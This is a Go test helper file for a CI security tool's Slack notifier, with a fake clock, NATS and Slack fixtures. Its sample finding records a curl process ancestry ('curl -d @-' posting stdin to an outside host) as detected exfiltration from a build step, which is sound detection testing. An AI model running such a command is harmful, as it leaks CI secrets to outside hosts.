package notify

import (
	"bytes"
	"context"
	"fmt"
	"log/slog"
	"net/http/httptest"
	"sync"
	"testing"
	"time"

	"github.com/nats-io/nats.go/jetstream"
	"google.golang.org/protobuf/types/known/timestamppb"

	sallyportv1 "github.com/sallyport-ci/sallyport/proto/sallyport/v1"
	"github.com/sallyport-ci/sallyport/stream"
	"github.com/sallyport-ci/sallyport/stream/natsserver"
	"github.com/sallyport-ci/sallyport/stream/natsserver/natstest"
	"github.com/sallyport-ci/sallyport/test/slackfake"
)

// hand is a clock that moves when the test says so.
type hand struct {
	mu      sync.Mutex
	now     time.Time
	waiting []alarm
}

type alarm struct {
	at time.Time
	c  chan time.Time
}

func newHand() *hand { return &hand{now: time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)} }

func (h *hand) Now() time.Time {
	h.mu.Lock()
	defer h.mu.Unlock()
	return h.now
}

func (h *hand) After(d time.Duration) <-chan time.Time {
	h.mu.Lock()
	defer h.mu.Unlock()
	c := make(chan time.Time, 1)
	h.waiting = append(h.waiting, alarm{h.now.Add(d), c})
	return c
}

func (h *hand) advance(d time.Duration) {
	h.mu.Lock()
	defer h.mu.Unlock()
	h.now = h.now.Add(d)
	var later []alarm
	for _, a := range h.waiting {
		if a.at.After(h.now) {
			later = append(later, a)
		} else {
			a.c <- h.now
		}
	}
	h.waiting = later
}

// nextAlarm waits until somebody waits for a time in (least, most] from now, and
// returns that time.
func (h *hand) nextAlarm(t *testing.T, least, most time.Duration) time.Duration {
	t.Helper()
	for range 1000 {
		h.mu.Lock()
		for _, a := range h.waiting {
			if d := a.at.Sub(h.now); d > least && d <= most {
				h.mu.Unlock()
				return d
			}
		}
		h.mu.Unlock()
		time.Sleep(5 * time.Millisecond)
	}
	t.Fatalf("nobody waits for a time between %s and %s", least, most)
	return 0
}

const webhookPath = "/services/T0/B0/verysecretpart"

// rig is a NATS, a Slack and a Notifier between them.
type rig struct {
	t        *testing.T
	server   *natsserver.Server
	js       jetstream.JetStream
	slack    *slackfake.Receiver
	webhook  string
	clock    *hand
	log      *lockedBuffer
	sink     Sink
	router   *Router
	notifier *Notifier
	stop     func()
}

type lockedBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (l *lockedBuffer) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.Write(p)
}

func (l *lockedBuffer) String() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.String()
}

const operatorPassword = "operator-of-a-test"

func newRig(t *testing.T) *rig {
	t.Helper()
	s, js := natstest.StartDeclared(t, natsserver.Config{OperatorPassword: operatorPassword})
	slack := slackfake.New(webhookPath, nil)
	web := httptest.NewServer(slack)
	t.Cleanup(web.Close)
	r := &rig{
		t: t, server: s, js: js, slack: slack, webhook: web.URL + webhookPath, clock: newHand(), log: &lockedBuffer{},
	}
	r.sink = Sink{
		Name: "slack", Target: r.newSlack(), Window: SlackWindow, Interval: 0, MaxItems: SlackMaxItems,
	}
	t.Cleanup(func() {
		if r.stop != nil {
			r.stop()
		}
		if t.Failed() {
			t.Logf("log:\n%s", r.log)
		}
		if bytes.Contains([]byte(r.log.String()), []byte("verysecretpart")) {
			t.Error("the log holds the webhook's address")
		}
		for _, err := range slack.Refusals() {
			t.Errorf("a message broke Slack's contract: %v", err)
		}
	})
	return r
}

func (r *rig) newSlack() *Slack {
	s, err := NewSlack(SlackOptions{WebhookURL: r.webhook, Now: r.clock.Now})
	if err != nil {
		r.t.Fatal(err)
	}
	return s
}

// start runs a Notifier until r.stop.
func (r *rig) start(others ...Sink) {
	r.t.Helper()
	n, err := New(Config{
		JS: r.js, Sinks: append([]Sink{r.sink}, others...), Router: r.router, Clock: r.clock, Random: func() float64 { return 0.5 },
		Logger: slog.New(slog.NewTextHandler(r.log, &slog.HandlerOptions{Level: slog.LevelDebug})),
	})
	if err != nil {
		r.t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- n.Run(ctx) }()
	r.notifier = n
	var once sync.Once
	r.stop = func() {
		once.Do(func() {
			cancel()
			select {
			case err := <-done:
				if err != nil {
					r.t.Errorf("Run: %v", err)
				}
			case <-time.After(20 * time.Second):
				r.t.Error("Run does not end")
			}
		})
	}
}

func (r *rig) publish(fs ...*sallyportv1.Finding) {
	r.t.Helper()
	for _, f := range fs {
		if err := stream.PublishFinding(r.t.Context(), r.js, f); err != nil {
			r.t.Fatal(err)
		}
	}
}

// await waits until Slack has seen what done says.
func (r *rig) await(what string, done func() bool) {
	r.t.Helper()
	ctx, cancel := context.WithTimeout(r.t.Context(), 20*time.Second)
	defer cancel()
	if err := r.slack.Wait(ctx, done); err != nil {
		var got []string
		for _, m := range r.slack.Messages() {
			got = append(got, m.Text)
		}
		r.t.Fatalf("waiting for %s: %v after %d attempts; messages: %q", what, err, r.slack.Attempts(), got)
	}
}

func (r *rig) awaitMessages(n int) []slackfake.Received {
	r.t.Helper()
	r.await(fmt.Sprintf("%d messages", n), func() bool { return len(r.slack.Messages()) >= n })
	return r.slack.Messages()
}

// quiet checks that nothing more is sent for a moment.
func (r *rig) quiet(attempts int) {
	r.t.Helper()
	time.Sleep(150 * time.Millisecond)
	if n := r.slack.Attempts(); n != attempts {
		r.t.Errorf("%d attempts, want %d", n, attempts)
	}
}

// settled waits until nothing waits in the sink's outbox and nothing in the stream.
func (r *rig) settled() {
	r.t.Helper()
	for range 3000 {
		o := r.notifier.outboxes[0]
		o.mu.Lock()
		waiting := len(o.known)
		o.mu.Unlock()
		c, err := r.js.Consumer(r.t.Context(), stream.FindingsStream, stream.NotifyConsumer)
		if err != nil {
			r.t.Fatal(err)
		}
		if i := c.CachedInfo(); waiting == 0 && i.NumPending == 0 && i.NumAckPending == 0 {
			return
		}
		time.Sleep(10 * time.Millisecond)
	}
	r.t.Fatal("findings still wait")
}

// finding returns the n-th finding of a policy against a target.
func finding(n int, target string) *sallyportv1.Finding {
	return &sallyportv1.Finding{
		Id:   fmt.Sprintf("%032x", n),
		Time: timestamppb.New(time.Date(2026, 3, 1, 11, 59, n%60, 0, time.UTC)),
		Policy: &sallyportv1.Policy{
			Id: "new_endpoint", Title: "New endpoint against a stable baseline",
			Description: "A job whose clean runs never spoke to this host did so now.",
			Severity:    sallyportv1.Severity_SEVERITY_HIGH, Technique: "T1041",
			Remediation: "If it is expected, let it become part of the baseline. If not, rotate the job's secrets.",
		},
		Message: "curl sent to " + target + ", which no clean run of this job did.",
		Attribution: &sallyportv1.Attribution{
			Repository: "acme/shop", Workflow: "CI", RunId: fmt.Sprint(900 + n), RunAttempt: 1, RunNumber: uint64(n), Job: "build",
			Step: "changed-files", Action: "tj-actions/changed-files@v45", Commit: "0123456789abcdef0123456789abcdef01234567",
			Ref: "refs/heads/main", Event: "push", Actor: "octocat", Runner: "runner-7",
		},
		Behaviour: &sallyportv1.Behaviour{
			Kind: sallyportv1.BehaviourKind_BEHAVIOUR_KIND_EGRESS, Program: "curl", Target: target, Domain: target,
			Address: "192.0.2.7", Port: 443, Protocol: "tcp", AddressScope: "public",
		},
		Ancestry: []*sallyportv1.Process{
			{Id: 3, ParentId: 2, Pid: 303, Executable: "/usr/bin/curl", Arguments: []string{"curl", "-d", "@-", "https://" + target + "/?a=1&b=2"}},
			{Id: 2, ParentId: 1, Pid: 202, Executable: "/usr/bin/bash", Arguments: []string{"bash", "-e", "step.sh"}},
			{Id: 1, Pid: 101, Executable: "/opt/runner/bin/Runner.Worker"},
		},
		Baseline: &sallyportv1.BaselineFacts{Stable: true, Runs: 8, RunsWithoutChange: 5, RunsNeeded: 5, Behaviours: 12},
		AgentId:  "agent-1", Hostname: "build-host",
	}
}

func deadLetters(t *testing.T, js jetstream.JetStream, want int) []*jetstream.RawStreamMsg {
	t.Helper()
	s, err := js.Stream(t.Context(), stream.DeadLettersStream)
	if err != nil {
		t.Fatal(err)
	}
	for range 400 {
		info, err := s.Info(t.Context())
		if err != nil {
			t.Fatal(err)
		}
		if info.State.Msgs >= uint64(want) {
			var letters []*jetstream.RawStreamMsg
			for seq := info.State.FirstSeq; seq <= info.State.LastSeq; seq++ {
				m, err := s.GetMsg(t.Context(), seq)
				if err != nil {
					t.Fatal(err)
				}
				letters = append(letters, m)
			}
			return letters
		}
		time.Sleep(10 * time.Millisecond)
	}
	t.Fatalf("no %d dead letters", want)
	return nil
}
